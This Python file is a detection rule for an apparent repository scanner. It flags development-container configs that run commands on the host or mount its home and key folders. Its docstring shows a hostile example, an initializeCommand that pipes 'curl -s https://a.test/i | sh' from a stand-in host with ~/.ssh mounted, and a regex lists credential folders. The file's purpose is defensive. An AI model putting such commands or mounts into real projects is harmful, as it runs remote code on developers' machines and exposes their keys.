"""What it sees
    Commands and mounts of a development container that reach out of the container: `initializeCommand` runs on the
    host itself; mounts of the home folder, of key folders or of the Docker socket give the container the host.
    Lifecycle commands inside the container that fetch code from throw-away hosts are reported too.

Why it matters
    "Reopen in container" sounds safe. `initializeCommand` runs before there is a container.

Example
    {"initializeCommand": "curl -s https://a.test/i | sh",
     "mounts": ["source=${localEnv:HOME}/.ssh,target=/s,type=bind"]}

What to do
    Do not reopen in the container; read the commands and mounts first.

False alarms
    Folder preparation (`mkdir`, `touch`, `docker pull`) on the host and the Docker socket for docker-from-docker are
    common and only context.

References
    containers.dev, "Lifecycle scripts"; ATT&CK T1204.002, T1611.
"""

import posixpath
import re
from collections.abc import Iterator

from lazaretto.detect.commands import on_request, start_signals, uninvited
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.shell import analyse
from lazaretto.parse.workspace import DevContainer, line_of

_HOME = re.compile(
    r"(?:localEnv:(?:HOME|USERPROFILE)\}(?:\$\{localEnv:(?:HOME|USERPROFILE)\})?|^~|=~|/home/\w{1,32}|/Users/\w{1,32})(/[^,:\s]{0,200})?(?=[,:\s]|$)"
)
_KEYS = re.compile(
    r"^/(?:\.ssh|\.aws|\.gnupg|\.config/(?:gcloud|solana|gh)|\.kube|\.npmrc|\.docker|\.ethereum|\.mozilla|Library|AppData|\.config/google-chrome)"
)


def check(view: DevContainer) -> Iterator[Match | Signal]:
    """Judge the host command, the container's commands and the mounts."""
    base = posixpath.dirname(view.path)
    folder = posixpath.dirname(base) if posixpath.basename(base) == ".devcontainer" else base
    for command in view.commands:
        facts = analyse(command.text)
        on_host = command.name == "initializeCommand"
        yield from start_signals(facts, Phase.OPEN if on_host else Phase.BUILD, view.path, folder, command.line)
        danger = uninvited(facts) if on_host else on_request(facts)
        if danger is not None and (on_host or danger.severity > Severity.LOW):
            yield danger.match(command.name, command.line, command.text, Phase.OPEN if on_host else Phase.BUILD)
        elif on_host:
            yield Match(
                N_("a command runs on the host before the container exists: {command}"),
                line=command.line,
                params={"command": command.text[:120]},
            )
    for mount in view.mounts:
        home = _HOME.search(mount)
        if home and (not home.group(1) or _KEYS.match(home.group(1))):
            whole = not home.group(1) or home.group(1) == "/"
            yield Match(
                N_("the container can read the host's {folder}"),
                line=line_of(view.blob, mount, '"mounts"', '"runArgs"'),
                params={"folder": f"~{home.group(1) or ''}"},
                severity=Severity.MEDIUM if whole else Severity.LOW,
                confidence=Confidence.MEDIUM,
            )


RULE = Rule(
    id="repo/devcontainer-reaches-host",
    title=N_("A development container runs commands on the host, or mounts its keys"),
    view=DevContainer,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    phase=Phase.OPEN,
    role=Role.TRIGGER,
    check=check,
    doc=__doc__,
    techniques=("T1204.002", "T1611"),
    needles=(b"Command", b"mounts", b"runArgs", b"workspaceMount"),
)
